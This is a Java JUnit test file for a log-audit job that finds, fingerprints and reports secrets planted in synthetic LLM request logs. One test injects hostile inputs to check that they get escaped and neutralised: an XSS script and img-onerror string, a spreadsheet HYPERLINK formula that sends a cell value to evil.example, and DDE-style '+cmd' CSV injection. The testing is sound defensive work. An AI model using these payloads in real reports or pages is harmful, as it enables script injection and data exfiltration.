package org.distillguard.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.apache.spark.sql.Encoders;
import org.apache.spark.sql.SparkSession;
import org.distillguard.config.DistillGuardConfig;
import org.distillguard.redact.Finding;
import org.distillguard.redact.HmacKey;
import org.distillguard.redact.Redactor;
import org.distillguard.redact.SecretRuleSet;
import org.distillguard.simulate.SyntheticSecrets;
import org.distillguard.testing.SparkTestSession;
import org.distillguard.testing.TestLogs;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Plants secrets of every kind the redactor knows (120 occurrences of 30 distinct values per kind, each value in four
 * accounts and in every place a text can sit) across JSONL, gzip JSONL, LiteLLM CSV, Parquet and lines that do not
 * parse, runs the audit once, and checks the counts, the fingerprints (recomputed here with {@link Mac} directly) and
 * that no raw secret reaches any output file.
 */
class AuditJobTest {

    private static final String KEY = "audit-test-key-5f0c3a9e1b7d2c4a6e8f0b1d3c5a7e9f";
    private static final int DISTINCT_PER_KIND = 30;
    private static final int OCCURRENCES_PER_KIND = 120;
    private static final List<String> ACCOUNTS = List.of("acct_alpha", "acct_bravo", "team-charlie", "acct_delta");
    private static final List<String> PLACES = List.of("user", "system", "tool", "assistant-history", "response", "unparsed");
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    static Path folder;

    private static final SparkSession SPARK = SparkTestSession.get();
    private static final Redactor REDACTOR = Redactor.withDefaultRules();

    /** What was planted, per kind. */
    private static final Map<String, Integer> OCCURRENCES = new TreeMap<>();
    private static final Map<String, Set<String>> FINGERPRINTS = new TreeMap<>();
    private static final Map<String, Map<String, Long>> WHERE = new TreeMap<>();
    private static final Set<List<String>> TRIPLES = new HashSet<>();
    private static final Map<String, Set<String>> PLANTED = new TreeMap<>();
    private static final Map<String, Integer> PLANTED_COUNT = new TreeMap<>();
    private static final Map<String, Set<String>> RECORDS = new TreeMap<>();
    private static final Map<String, Set<String>> VALUES = new TreeMap<>();
    private static final Map<String, Set<String>> ACCOUNTS_BY_RULE = new TreeMap<>();
    private static final List<String> SECRETS = new ArrayList<>();
    private static AuditResult result;
    private static Path out;

    @BeforeAll
    static void plantAndAudit() throws Exception {
        SplittableRandom random = new SplittableRandom(20261124);
        StringBuilder jsonl = new StringBuilder();
        StringBuilder gzipped = new StringBuilder();
        StringBuilder forParquet = new StringBuilder();
        StringBuilder csv = new StringBuilder("request_id,startTime,endTime,api_key,user,team_id,model,messages,response,status\n");
        int record = 0;
        for (String kind : SyntheticSecrets.kinds()) {
            List<String> distinct = new ArrayList<>();
            while (distinct.size() < DISTINCT_PER_KIND) {
                String secret = SyntheticSecrets.generate(kind, random);
                if (!distinct.contains(secret)) {
                    distinct.add(secret);
                }
            }
            SECRETS.addAll(distinct);
            for (int i = 0; i < OCCURRENCES_PER_KIND; i++) {
                record++;
                String secret = distinct.get(i % DISTINCT_PER_KIND);
                String account = ACCOUNTS.get(i / DISTINCT_PER_KIND % ACCOUNTS.size());
                String place = PLACES.get(i % PLACES.size());
                String text = SyntheticSecrets.embed(kind, secret, random);
                String requestId = "req-" + record;
                PLANTED.computeIfAbsent(kind, k -> new HashSet<>()).add(fingerprint(kind, secret));
                PLANTED_COUNT.merge(kind, 1, Integer::sum);
                // Some templates hold a second finding of their own (the generic rule matches Azure's
                // SharedAccessKeyName=RootManageSharedAccessKey): expect what the rules find in the planted text.
                for (Finding finding : REDACTOR.find(text)) {
                    String rule = finding.ruleId();
                    String value = REDACTOR.secret(text, finding);
                    OCCURRENCES.merge(rule, 1, Integer::sum);
                    FINGERPRINTS.computeIfAbsent(rule, k -> new HashSet<>()).add(fingerprint(rule, value));
                    WHERE.computeIfAbsent(rule, k -> new TreeMap<>()).merge(place, 1L, Long::sum);
                    TRIPLES.add(java.util.Arrays.asList(place.equals("unparsed") ? null : account, rule, fingerprint(rule, value)));
                    RECORDS.computeIfAbsent(rule, k -> new HashSet<>()).add(requestId);
                    VALUES.computeIfAbsent(rule, k -> new HashSet<>()).add(value);
                    ACCOUNTS_BY_RULE.computeIfAbsent(rule, k -> new HashSet<>()).add(place.equals("unparsed") ? "" : account);
                }
                if (place.equals("unparsed")) {
                    String broken = "{\"request_id\": \"" + requestId + "\", \"oops\": " + JSON.writeValueAsString(text) + " broken";
                    (record % 2 == 0 ? jsonl : gzipped).append(broken).append('\n');
                    continue;
                }
                ObjectNode line = plant(requestId, account, place, text);
                switch (record % 4) {
                    case 0 -> jsonl.append(TestLogs.render(line)).append('\n');
                    case 1 -> gzipped.append(TestLogs.render(line)).append('\n');
                    case 2 -> forParquet.append(TestLogs.render(line)).append('\n');
                    default -> csv.append(liteLlmRow(requestId, account, place, text));
                }
            }
        }
        // Records without any secret count in the share of records.
        for (int i = 0; i < 500; i++) {
            jsonl.append(TestLogs.line("clean-" + i, "2026-11-24T09:00:00Z", "acct_clean", "What is a monad?")).append('\n');
        }
        Path logs = Files.createDirectories(folder.resolve("logs"));
        Files.writeString(logs.resolve("a.jsonl"), jsonl);
        try (OutputStream gzip = new GZIPOutputStream(Files.newOutputStream(logs.resolve("b.jsonl.gz")))) {
            gzip.write(gzipped.toString().getBytes(StandardCharsets.UTF_8));
        }
        Files.writeString(logs.resolve("spend.csv"), csv);
        SPARK.read().json(SPARK.createDataset(forParquet.toString().lines().toList(), Encoders.STRING()))
                .coalesce(1).write().parquet(logs.resolve("c.parquet").toString());

        out = folder.resolve("audit");
        result = AuditJob.run(SPARK, DistillGuardConfig.defaults(), REDACTOR, HmacKey.of(KEY),
                AuditRequest.allDates(List.of(logs.toString()), out.toString()));
    }

    private static ObjectNode plant(String requestId, String account, String place, String text) {
        ObjectNode line = TestLogs.record(requestId, "2026-11-24T10:00:00Z", account, "Please help.");
        ArrayNode messages = (ArrayNode) line.get("request").get("messages");
        ObjectNode answer = (ObjectNode) line.get("response").get("choices").get(0).get("message");
        answer.put("content", "Here you go.");
        switch (place) {
            case "user" -> ((ObjectNode) messages.get(1)).put("content", "My config: " + text);
            case "system" -> ((ObjectNode) messages.get(0)).put("content", "Context: " + text);
            case "tool" -> messages.addObject().put("role", "tool").put("content", "tool output: " + text);
            case "assistant-history" -> messages.insert(1, JSON.createObjectNode().put("role", "assistant").put("content", text));
            case "response" -> answer.put("content", "Echo: " + text);
            default -> throw new IllegalArgumentException(place);
        }
        return line;
    }

    private static String liteLlmRow(String requestId, String account, String place, String text) throws IOException {
        ArrayNode messages = JSON.createArrayNode();
        messages.addObject().put("role", "system").put("content", place.equals("system") ? "Context: " + text : "Be brief.");
        if (place.equals("assistant-history")) {
            messages.addObject().put("role", "assistant").put("content", text);
        }
        messages.addObject().put("role", "user").put("content", place.equals("user") ? "My config: " + text : "Please help.");
        if (place.equals("tool")) {
            messages.addObject().put("role", "tool").put("content", "tool output: " + text);
        }
        ObjectNode response = JSON.createObjectNode();
        response.putArray("choices").addObject().putObject("message")
                .put("content", place.equals("response") ? "Echo: " + text : "Here you go.");
        return String.join(",", List.of(requestId, "2026-11-24 10:00:00", "2026-11-24 10:00:01", "88dc28d0f030c55ed4",
                "end-user-7", quote(account), "gpt-4o", quote(JSON.writeValueAsString(messages)),
                quote(JSON.writeValueAsString(response)), "success")) + "\n";
    }

    private static String quote(String value) {
        return '"' + value.replace("\"", "\"\"") + '"';
    }

    /** The documented fingerprint, computed without the project's classes. */
    static String fingerprint(String ruleId, String value) {
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(KEY.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
            byte[] digest = mac.doFinal(("secret\0" + ruleId + "\0" + value).getBytes(StandardCharsets.UTF_8));
            return HexFormat.of().formatHex(digest);
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode auditJson() throws IOException {
        return JSON.readTree(out.resolve(AuditJob.JSON).toFile());
    }

    @Test
    void givenPlantedSecretsOfEveryKind_whenAudited_thenEveryOccurrenceIsCountedUnderItsKind() throws IOException {
        assertThat(SyntheticSecrets.kinds()).containsExactlyInAnyOrderElementsOf(SecretRuleSet.defaults().ids());
        Map<String, JsonNode> rules = new HashMap<>();
        auditJson().get("rules").forEach(rule -> rules.put(rule.get("rule_id").asText(), rule));

        assertThat(rules.keySet()).containsExactlyInAnyOrderElementsOf(OCCURRENCES.keySet());
        for (String kind : OCCURRENCES.keySet()) {
            JsonNode rule = rules.get(kind);
            assertThat(rule.get("occurrences").asLong()).as(kind).isEqualTo(OCCURRENCES.get(kind).longValue())
                    .isGreaterThanOrEqualTo(PLANTED_COUNT.get(kind)).isGreaterThanOrEqualTo(100);
            assertThat(rule.get("records").asLong()).as(kind).isEqualTo(RECORDS.get(kind).size());
            Map<String, Long> where = new TreeMap<>();
            rule.get("where").fields().forEachRemaining(entry -> where.put(entry.getKey(), entry.getValue().asLong()));
            assertThat(where).as(kind).isEqualTo(WHERE.get(kind));
            assertThat(rule.get("first_seen").asText()).isEqualTo("2026-11-24T10:00:00Z");
        }
        assertThat(result.occurrences()).isEqualTo(OCCURRENCES.values().stream().mapToLong(Integer::longValue).sum());
        long planted = PLANTED_COUNT.values().stream().mapToLong(Integer::longValue).sum();
        assertThat(result.scannedRecords()).isEqualTo(planted + 500);
        assertThat(result.recordsToPurge()).isEqualTo(planted);
    }

    @Test
    void givenTheSameSecretInManyRecordsAndAccounts_whenAudited_thenItCountsOncePerDistinctValue() throws IOException {
        JsonNode json = auditJson();
        for (JsonNode rule : json.get("rules")) {
            String kind = rule.get("rule_id").asText();
            assertThat(rule.get("distinct_values").asLong()).as(kind).isEqualTo(VALUES.get(kind).size());
            if (PLANTED.containsKey(kind)) {
                assertThat(VALUES.get(kind)).as(kind).hasSizeGreaterThanOrEqualTo(DISTINCT_PER_KIND);
            }
            assertThat(rule.get("accounts").asLong()).as(kind).isEqualTo(ACCOUNTS.size());
        }
        Set<List<String>> triples = new HashSet<>();
        for (JsonNode secret : json.get("secrets")) {
            triples.add(java.util.Arrays.asList(secret.get("account").isNull() ? null : secret.get("account").asText(),
                    secret.get("rule_id").asText(), secret.get("fingerprint").asText()));
        }
        assertThat(triples).isEqualTo(TRIPLES);
        assertThat(json.get("secrets")).hasSize(TRIPLES.size());
        assertThat(result.distinctSecrets()).isEqualTo(TRIPLES.size());
        for (JsonNode account : json.get("accounts")) {
            String name = account.get("account").isNull() ? null : account.get("account").asText();
            String category = account.get("category").asText();
            long expected = TRIPLES.stream().filter(triple -> java.util.Objects.equals(triple.get(0), name)
                    && SecretRuleSet.defaults().rule(triple.get(1)).orElseThrow().category().yamlName().equals(category)).count();
            assertThat(account.get("distinct_values").asLong()).as("%s %s", name, category).isEqualTo(expected);
        }
    }

    @Test
    void givenPlantedSecrets_whenAudited_thenFingerprintsEqualAnIndependentHmacAndOnlyCardsShowTheirLastFour() throws IOException {
        Map<String, Set<String>> found = new TreeMap<>();
        for (JsonNode secret : auditJson().get("secrets")) {
            String kind = secret.get("rule_id").asText();
            found.computeIfAbsent(kind, k -> new HashSet<>()).add(secret.get("fingerprint").asText());
            assertThat(secret.get("fingerprint").asText()).hasSize(64).matches("[0-9a-f]{64}");
            if (kind.equals("payment-card")) {
                assertThat(secret.get("last4").asText()).matches("[0-9]{4}");
            } else {
                assertThat(secret.has("last4")).as(kind).isFalse();
            }
        }
        assertThat(found).isEqualTo(FINGERPRINTS);
        PLANTED.forEach((kind, planted) -> assertThat(found.get(kind)).as(kind).containsAll(planted));
    }

    @Test
    void givenPlantedSecrets_whenAudited_thenNoRawSecretOrKeyIsInAnyOutputFile() throws IOException {
        List<Path> files;
        try (Stream<Path> walk = Files.walk(out)) {
            files = walk.filter(Files::isRegularFile).toList();
        }
        assertThat(files).extracting(path -> path.getFileName().toString()).containsExactlyInAnyOrder(
                AuditJob.HTML, AuditJob.CSV, AuditJob.JSON, AuditJob.PURGE_CSV, AuditJob.PURGE_JSON);
        StringBuilder everything = new StringBuilder();
        for (Path file : files) {
            everything.append(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1)).append('\n');
            assertThat(Files.getPosixFilePermissions(file)).containsExactlyInAnyOrder(
                    PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE);
        }
        String haystack = everything.toString();
        assertThat(haystack).contains("payment-card").contains("req-1");
        for (String secret : SECRETS) {
            for (String needle : needles(secret)) {
                assertThat(haystack.contains(needle)).as("raw secret fragment found in output: %s…",
                        needle.substring(0, Math.min(6, needle.length()))).isFalse();
            }
        }
        assertThat(haystack).doesNotContain(KEY);
    }

    @Test
    void givenPlantedSecrets_whenAudited_thenThePurgeListNamesEveryRecordWithItsFileLineAndKinds() throws IOException {
        JsonNode purge = JSON.readTree(out.resolve(AuditJob.PURGE_JSON).toFile());
        assertThat(purge).hasSize((int) result.recordsToPurge());
        Set<String> requestIds = new HashSet<>();
        for (JsonNode entry : purge) {
            assertThat(entry.get("source_file").asText()).containsAnyOf("a.jsonl", "b.jsonl.gz", "spend.csv", ".parquet");
            assertThat(entry.get("line").asLong()).isPositive();
            assertThat(entry.get("kinds")).isNotEmpty();
            if (!entry.get("request_id").isNull()) {
                requestIds.add(entry.get("request_id").asText());
            }
        }
        // Unparsed lines have no request id the audit can trust; every parsed record is named.
        assertThat(requestIds).hasSize((int) (result.recordsToPurge() - result.unparsedRecords()));
        List<String> csv = Files.readAllLines(out.resolve(AuditJob.PURGE_CSV));
        assertThat(csv.get(0)).isEqualTo("request_id,source_file,line,account,kinds,categories,occurrences");
        assertThat(csv).hasSize(purge.size() + 1);
    }

    @Test
    void givenPlantedSecrets_whenAudited_thenTheHtmlIsSelfContainedAndTheCsvHasTheSummaryAndEveryAccount() throws IOException {
        String html = Files.readString(out.resolve(AuditJob.HTML));
        assertThat(html).contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">")
                .doesNotContain("<script").doesNotContain("src=\"http").doesNotContain("<link");
        List<String> csv = Files.readAllLines(out.resolve(AuditJob.CSV));
        assertThat(csv.get(0)).isEqualTo(String.join(",", AuditReport.CSV_COLUMNS));
        assertThat(csv).filteredOn(line -> line.startsWith("summary,")).hasSize(OCCURRENCES.size());
        assertThat(csv).filteredOn(line -> line.startsWith("secret,")).hasSize(TRIPLES.size());
        assertThat(csv).filteredOn(line -> line.startsWith("account,") && line.contains(",acct_alpha,")).hasSize(2);
    }

    @Test
    void givenADateRange_whenAudited_thenRecordsOutsideItAreSkippedAndUndatedOnesScanned() throws IOException {
        Path logs = Files.createDirectories(folder.resolve("range"));
        String secret = "AKIA" + "QWERTYUIOPASDFGH";
        Files.writeString(logs.resolve("days.jsonl"), String.join("\n",
                TestLogs.line("r-23", "2026-11-23T23:59:59Z", "acct_a", "aws_access_key_id = " + secret),
                TestLogs.line("r-24", "2026-11-24T00:00:00Z", "acct_a", "aws_access_key_id = " + secret),
                TestLogs.line("r-25", "2026-11-25T12:00:00Z", "acct_b", "aws_access_key_id = " + secret),
                "not json: aws_access_key_id = " + secret) + "\n");

        AuditResult ranged = AuditJob.run(SPARK, DistillGuardConfig.defaults(), REDACTOR, HmacKey.of(KEY),
                new AuditRequest(List.of(logs.toString()), folder.resolve("range-out").toString(),
                        Optional.of(LocalDate.parse("2026-11-24")), Optional.of(LocalDate.parse("2026-11-24"))));

        assertThat(ranged.outOfRange()).isEqualTo(2);
        assertThat(ranged.scannedRecords()).isEqualTo(2);
        assertThat(ranged.unparsedRecords()).isEqualTo(1);
        // The prompt is echoed in the test record's response: two places in the dated record, one in the raw line.
        assertThat(ranged.rules()).singleElement().satisfies(rule -> {
            assertThat(rule.ruleId()).isEqualTo("aws-access-key");
            assertThat(rule.distinctValues()).isEqualTo(1);
            assertThat(rule.occurrences()).isEqualTo(3);
            assertThat(rule.records()).isEqualTo(2);
            assertThat(rule.shareOfRecords()).isEqualTo(1.0);
            assertThat(rule.where()).containsEntry("user", 1L).containsEntry("response", 1L).containsEntry("unparsed", 1L);
        });
    }

    @Test
    void givenHostileAccountIdsAndRequestIds_whenAudited_thenTheyAreEscapedInHtmlAndNeutralizedInCsv() throws IOException {
        Path logs = Files.createDirectories(folder.resolve("hostile"));
        String hostileAccount = "<script>alert(1)</script><img src=x onerror=alert(2)>";
        String formulaAccount = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        Files.writeString(logs.resolve("x.jsonl"), String.join("\n",
                TestLogs.line("+cmd|' /C calc'!A0", "2026-11-24T10:00:00Z", hostileAccount, "mail me at bob@example.com"),
                TestLogs.line("@SUM(1+1)", "2026-11-24T10:00:00Z", formulaAccount, "mail me at bob@example.com")) + "\n");
        Path hostileOut = folder.resolve("hostile-out");

        AuditJob.run(SPARK, DistillGuardConfig.defaults(), REDACTOR, HmacKey.of(KEY),
                AuditRequest.allDates(List.of(logs.toString()), hostileOut.toString()));

        String html = Files.readString(hostileOut.resolve(AuditJob.HTML));
        assertThat(html).doesNotContain("<script").doesNotContain("<img").contains("&lt;script&gt;");
        String csv = Files.readString(hostileOut.resolve(AuditJob.CSV)) + Files.readString(hostileOut.resolve(AuditJob.PURGE_CSV));
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")
                .contains("\"'+cmd|' /C calc'!A0\"").contains("\"'@SUM(1+1)\"")
                .doesNotContain(",=HYPERLINK").doesNotContain(",+cmd").doesNotContain(",@SUM");
    }

    @Test
    void givenNoLogFiles_whenAudited_thenTheMessageSaysWhatWasExpected() throws IOException {
        Path empty = Files.createDirectories(folder.resolve("empty"));
        assertThatThrownBy(() -> AuditJob.run(SPARK, DistillGuardConfig.defaults(), REDACTOR, HmacKey.of(KEY),
                AuditRequest.allDates(List.of(empty.toString()), folder.resolve("empty-out").toString())))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("no log files found");
    }

    /** The secret, its JSON-escaped form, and for multi-line secrets (PEM keys) each long line on its own. */
    private static List<String> needles(String secret) throws IOException {
        List<String> needles = new ArrayList<>();
        needles.add(secret);
        String escaped = JSON.writeValueAsString(secret);
        needles.add(escaped.substring(1, escaped.length() - 1));
        for (String part : secret.split("\\R")) {
            if (part.length() >= 24 && !part.startsWith("-----")) {
                needles.add(part);
            }
        }
        return needles;
    }
}
